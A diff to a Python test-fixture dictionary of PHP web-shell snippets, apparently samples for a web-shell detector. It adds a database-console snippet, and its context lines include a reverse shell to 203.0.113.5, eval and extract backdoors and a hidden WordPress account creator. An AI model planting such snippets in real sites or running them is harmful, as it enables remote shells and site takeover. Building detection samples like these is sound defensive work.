@@ -30,6 +30,8 @@ SNIPPETS: dict[str, bytes] = {
     "php_socket_shell": (b"<?php $s = fsockopen('203.0.113.5', 443); $p = proc_open('/bin/sh -i', "
                          b"array(0 => $s, 1 => $s, 2 => $s), $pipes); ?>"),
     "php_extract_request": b"<?php @extract($_POST); echo $f($a); ?>",
+    "php_database_console": (b"<form><textarea name=q></textarea></form><?php $r = mysql_query($q);"
+                             b" $t = mysql_query('SHOW TABLES'); ?>"),
     "php_split_function_names": b"<?php $f = 'ev'.'al'; ?>",
     "php_application_backdoor": b"<?php $id = wp_create_user($_GET['u'], $_GET['p']); ?>",
     "php_command_console": (b"<form method=post><input name=c></form><?php $c = $_POST['c'];"
